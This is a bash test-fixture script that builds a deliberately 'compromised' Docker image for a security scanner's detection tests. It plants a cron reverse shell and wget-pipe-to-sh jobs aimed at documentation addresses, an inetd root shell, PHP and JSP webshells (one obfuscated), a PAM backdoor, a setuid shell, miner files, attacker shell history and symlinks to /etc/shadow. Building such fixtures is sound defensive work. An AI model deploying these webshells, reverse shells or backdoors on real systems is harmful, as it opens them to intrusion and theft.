#!/usr/bin/env bash
# tests/lab/planted.sh: a "compromised" image and containers holding one example of everything
# `cirt scan` looks for (cron reverse shell, ld.so.preload, webshells, miner, secrets, weak root
# password, shell history, ...), for the scan tests and later the triage tests.
#
#   tests/lab/planted.sh up      build the image (if its recipe changed) and start the containers
#   tests/lab/planted.sh down    remove the containers and the image
#   tests/lab/planted.sh env     PLANTED_* variables for the tests (eval "$(planted.sh env)")
#
# Idempotent: `up` keeps a running planted-run and an exited planted-stopped built from the
# current image. Everything carries the label cirt.lab=1 and cirt.lab.planted=1.
#
# Nothing here is real: every secret (AWS key, private key, tokens, passwords) is generated at
# build time from /dev/urandom and lives only in the local image; the "attacker" addresses are
# documentation addresses (198.51.100.0/24, TEST-NET-2) that nothing ever connects to: the
# planted cron jobs and scripts are never run, the image build runs with --network none, and the
# only running network code is a bind shell on the container's own loopback.
#
# `docker run --privileged` fails on this machine (the host's bounding set lacks
# CAP_SYS_RESOURCE), so planted-run gets the dangerous parts one by one: --cap-add SYS_ADMIN,
# SYS_PTRACE, DAC_READ_SEARCH, NET_ADMIN, --pid host, seccomp and AppArmor unconfined, the
# docker socket and the host's /etc (read-only) mounted.
set -euo pipefail

readonly IMAGE=cirt-lab/planted:1
readonly BASE_IMAGE=cirt-lab/busybox:1
readonly RUN=planted-run
readonly STOPPED=planted-stopped
readonly LABELS=(--label cirt.lab=1 --label cirt.lab.planted=1)

LAB_DIR=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")" && pwd)
readonly LAB_DIR
if [[ -z ${DOCKER:-} ]]; then
	if [[ -x /usr/bin/docker ]]; then DOCKER=/usr/bin/docker; else DOCKER=docker; fi
fi
readonly DOCKER

TMP_DIR=
cleanup() { if [[ -n $TMP_DIR ]]; then rm -rf -- "$TMP_DIR"; fi; }
trap cleanup EXIT

log() { printf 'planted: %s\n' "$*" >&2; }
die() {
	printf 'planted: error: %s\n' "$*" >&2
	exit 1
}
d() { "$DOCKER" "$@"; }

# random text from /dev/urandom over an alphabet
rand() { # N ALPHABET (tr dies of SIGPIPE when head has enough: expected)
	{ LC_ALL=C tr -dc "$2" </dev/urandom | head -c "$1"; } || true
}

# The recipe's fingerprint: this script itself; the image is rebuilt when it changes.
recipe_hash() { sha256sum "${BASH_SOURCE[0]}" | cut -c1-16; }

image_hash() { d image inspect -f '{{index .Config.Labels "cirt.lab.planted.recipe"}}' "$IMAGE" 2>/dev/null || true; }

# The start script: what an intruder does at run time (lands in the upper layer).
write_start() {
	cat >"$1" <<'EOF'
#!/bin/sh
# planted start: run-time traces of an intrusion (all local, nothing leaves the container)
trap 'exit 0' TERM INT
mkdir -p /root/.ssh
cat /opt/.k/attacker.pub >>/root/.ssh/authorized_keys
# a program run from /tmp and deleted while it runs
mkdir -p /tmp/.d && cp /bin/busybox /tmp/.d/busybox
/tmp/.d/busybox sleep 86400 &
# a program added since the image
mkdir -p /opt/bin && cp /bin/busybox /opt/bin/busybox
/opt/bin/busybox sleep 86400 &
# an injected library in a process environment (static busybox ignores it)
env LD_PRELOAD=/usr/lib/libsysupdate.so sleep 86400 &
# a process named like a miner
/var/tmp/.x/xmrig &
# a bind shell on the container's own loopback, and a client keeping it open
nc -l -p 4444 -e /bin/sh &
sleep 1
sleep 86400 | nc 127.0.0.1 4444 &
sleep 1
rm -f /tmp/.d/busybox
touch /run/planted.ok 2>/dev/null || touch /tmp/planted.ok
while :; do sleep 3600 & wait $!; done
EOF
}

# put FILE LINE...: write the lines to FILE (directories made)
put() {
	local f=$1
	shift
	mkdir -p "$(dirname "$f")"
	printf '%s\n' "$@" >"$f"
}

build() {
	[[ $(id -u) -eq 0 ]] || die "must run as root"
	d image inspect "$BASE_IMAGE" >/dev/null 2>&1 || die "$BASE_IMAGE missing (run: tests/lab/lab.sh up)"
	command -v openssl >/dev/null || die "openssl missing"
	TMP_DIR=$(mktemp -d /tmp/cirt-planted.XXXXXX)
	local r=$TMP_DIR/rootfs
	mkdir -p "$r"
	# --- generated secrets (fake, random, local only) ---
	local akid secret ghtok dbpw gitpw roothash
	akid="AKIA$(rand 16 'A-Z2-7')"
	secret=$(rand 40 'A-Za-z0-9')
	ghtok="ghp_$(rand 36 'A-Za-z0-9')"
	dbpw=$(rand 24 'A-Za-z0-9')
	gitpw=$(rand 20 'A-Za-z0-9')
	# root's password is "123456" (on every common list); toor is a second uid 0
	roothash=$(openssl passwd -6 -salt "$(rand 16 'a-zA-Z0-9')" 123456)
	put "$r/etc/shadow" "root:$roothash:19700:0:99999:7:::" 'toor:*:19700:0:99999:7:::' \
		'nobody:*:19700:0:99999:7:::' 'deploy:!:19700:0:99999:7:::'
	chmod 600 "$r/etc/shadow"
	put "$r/etc/passwd" 'root:x:0:0:root:/root:/bin/sh' 'toor:x:0:0:root:/root:/bin/sh' \
		'nobody:x:65534:65534:nobody:/nonexistent:/bin/false' 'deploy:x:1000:1000:deploy:/home/deploy:/bin/sh'
	# --- persistence ---
	put "$r/var/spool/cron/crontabs/root" '*/5 * * * * /bin/sh -c "sh -i >& /dev/tcp/198.51.100.7/4444 0>&1"'
	put "$r/etc/cron.d/sync" '*/10 * * * * root wget -q -O- http://198.51.100.9/s.sh | sh'
	put "$r/etc/ld.so.preload" /usr/lib/libsysupdate.so
	put "$r/etc/profile.d/zz-update.sh" 'export LD_PRELOAD=/usr/lib/libsysupdate.so'
	put "$r/etc/systemd/system/dbus-update.service" '[Service]' \
		'ExecStart=/var/tmp/.x/kworker -o pool.example.invalid:3333' '[Install]' 'WantedBy=multi-user.target'
	put "$r/etc/rc.local" '#!/bin/sh' 'nohup /var/tmp/.x/kworker --donate-level 1 >/dev/null 2>&1 &' 'exit 0'
	chmod 755 "$r/etc/rc.local"
	put "$r/etc/inetd.conf" '31337 stream tcp nowait root /bin/sh sh -i'
	put "$r/etc/pam.d/sshd" 'auth sufficient pam_permit.so' 'auth required pam_unix.so'
	put "$r/usr/sbin/sshd" '#!/bin/sh' 'exec /usr/sbin/.sshd "$@"'
	chmod 755 "$r/usr/sbin/sshd"
	mkdir -p "$r/usr/local/bin"
	cp /bin/busybox "$r/usr/local/bin/bash"
	chmod 4755 "$r/usr/local/bin/bash"
	# --- webshells ---
	put "$r/var/www/html/up.php" '<?php @eval($_POST["pass"]);?>'
	put "$r/var/www/html/.cache.php" '<?php $f=str_rot13("nffreg"); $f(base64_decode($_REQUEST["z"])); ?>'
	put "$r/usr/local/tomcat/webapps/ROOT/cmd.jsp" '<%@ page import="java.io.*" %>' \
		'<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
	# --- a miner: its config, and a copy of busybox with miner strings appended ---
	put "$r/opt/.x/config.json" '{' '  "donate-level": 1,' '  "randomx": {"1gb-pages": false},' \
		'  "pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "x", "pass": "x"}]' '}'
	mkdir -p "$r/var/tmp/.x"
	cp /bin/busybox "$r/var/tmp/.x/kworker"
	printf '\nXMRig 6.20.0 cryptonight randomx stratum+tcp://pool.example.invalid:3333 --donate-level\n' \
		>>"$r/var/tmp/.x/kworker"
	put "$r/var/tmp/.x/xmrig" '#!/bin/sh' 'sleep 86400'
	chmod 755 "$r/var/tmp/.x/kworker" "$r/var/tmp/.x/xmrig"
	# --- secrets ---
	put "$r/root/.aws/credentials" '[default]' "aws_access_key_id = $akid" "aws_secret_access_key = $secret" \
		'region = eu-west-1'
	mkdir -p "$r/root/.ssh"
	openssl genrsa -traditional -out "$r/root/.ssh/id_rsa" 2048 2>/dev/null ||
		openssl genrsa -out "$r/root/.ssh/id_rsa" 2048 2>/dev/null
	chmod 600 "$r/root/.ssh/id_rsa"
	put "$r/srv/app/.env" "GITHUB_TOKEN=$ghtok"
	put "$r/root/.git-credentials" "https://deploy:$gitpw@git.example.invalid"
	put "$r/opt/.k/attacker.pub" "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI$(rand 43 'A-Za-z0-9') attacker@c2"
	# --- weak service passwords ---
	put "$r/etc/redis/redis.conf" 'bind 0.0.0.0' 'requirepass foobared'
	put "$r/usr/local/tomcat/conf/tomcat-users.xml" '<tomcat-users>' \
		'  <user username="admin" password="admin" roles="manager-gui"/>' '</tomcat-users>'
	# --- what was typed ---
	put "$r/root/.ash_history" 'wget http://198.51.100.4/x -O /tmp/x' 'chmod +x /tmp/x' \
		'nc 198.51.100.4 4444 -e /bin/sh' 'rm -rf /var/log/*' 'history -c'
	ln -s /dev/null "$r/root/.bash_history"
	# --- traps: symlinks to the shadow file, absolute and climbing; a scanner following them
	# from the host would read the host's /etc/shadow ---
	mkdir -p "$r/home/deploy/.ssh"
	ln -s /etc/shadow "$r/etc/cron.d/zz-shadow"
	ln -s /etc/shadow "$r/home/deploy/.bash_history"
	ln -s /etc/shadow "$r/var/www/html/leak.php"
	ln -s /etc/shadow "$r/home/deploy/.ssh/authorized_keys"
	ln -s ../../../../../../etc/shadow "$r/srv/app/config.json"
	write_start "$r/start.sh"
	chmod 755 "$r/start.sh"
	cat >"$TMP_DIR/Dockerfile" <<EOF
FROM $BASE_IMAGE
ARG DBPW
ENV DB_PASSWORD=\$DBPW
COPY rootfs/ /
RUN ["/bin/busybox", "chmod", "4755", "/usr/local/bin/bash"]
RUN true || wget -q -O- http://198.51.100.23/i.sh | sh
LABEL cirt.lab.planted.recipe="$(recipe_hash)"
CMD ["/start.sh"]
EOF
	log "building $IMAGE (FROM $BASE_IMAGE, no network)"
	DOCKER_BUILDKIT=0 d build --quiet --network none "${LABELS[@]}" --build-arg "DBPW=$dbpw" \
		-t "$IMAGE" "$TMP_DIR" >/dev/null
	rm -rf -- "$TMP_DIR"
	TMP_DIR=
}

state() { d inspect -f '{{.State.Status}} {{.Image}}' "$1" 2>/dev/null || true; }

wait_planted() { # NAME
	local i
	for i in $(seq 1 100); do
		if d exec "$1" test -e /run/planted.ok 2>/dev/null || d exec "$1" test -e /tmp/planted.ok 2>/dev/null; then
			return 0
		fi
		sleep 0.2
	done
	die "$1 did not finish planting"
}

start_run() {
	d run -d --name "$RUN" "${LABELS[@]}" \
		--cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add DAC_READ_SEARCH --cap-add NET_ADMIN \
		--pid host --security-opt seccomp=unconfined --security-opt apparmor=unconfined \
		-v /var/run/docker.sock:/var/run/docker.sock -v /etc:/host/etc:ro \
		--network none "$IMAGE" >/dev/null
	wait_planted "$RUN"
}

start_stopped() {
	d run -d --name "$STOPPED" "${LABELS[@]}" --network none "$IMAGE" >/dev/null
	wait_planted "$STOPPED"
	d stop -t 5 "$STOPPED" >/dev/null
}

cmd_up() {
	if [[ $(image_hash) != "$(recipe_hash)" ]]; then
		d rm -f "$RUN" "$STOPPED" >/dev/null 2>&1 || true
		d rmi -f "$IMAGE" >/dev/null 2>&1 || true
		build
	fi
	local id st
	id=$(d image inspect -f '{{.Id}}' "$IMAGE")
	st=$(state "$RUN")
	if [[ $st != "running $id" ]]; then
		d rm -f "$RUN" >/dev/null 2>&1 || true
		start_run
	fi
	st=$(state "$STOPPED")
	if [[ $st != "exited $id" ]]; then
		d rm -f "$STOPPED" >/dev/null 2>&1 || true
		start_stopped
	fi
	log "up: $RUN (running), $STOPPED (exited), image $IMAGE"
}

cmd_down() {
	d rm -f "$RUN" "$STOPPED" >/dev/null 2>&1 || true
	d rmi -f "$IMAGE" >/dev/null 2>&1 || true
	log "down"
}

cmd_env() {
	printf 'PLANTED_IMAGE=%q\n' "$IMAGE"
	printf 'PLANTED_RUN=%q\n' "$RUN"
	printf 'PLANTED_STOPPED=%q\n' "$STOPPED"
}

case ${1:-} in
up) cmd_up ;;
down) cmd_down ;;
env) cmd_env ;;
*)
	printf 'usage: %s up|down|env\n' "$0" >&2
	exit 2
	;;
esac
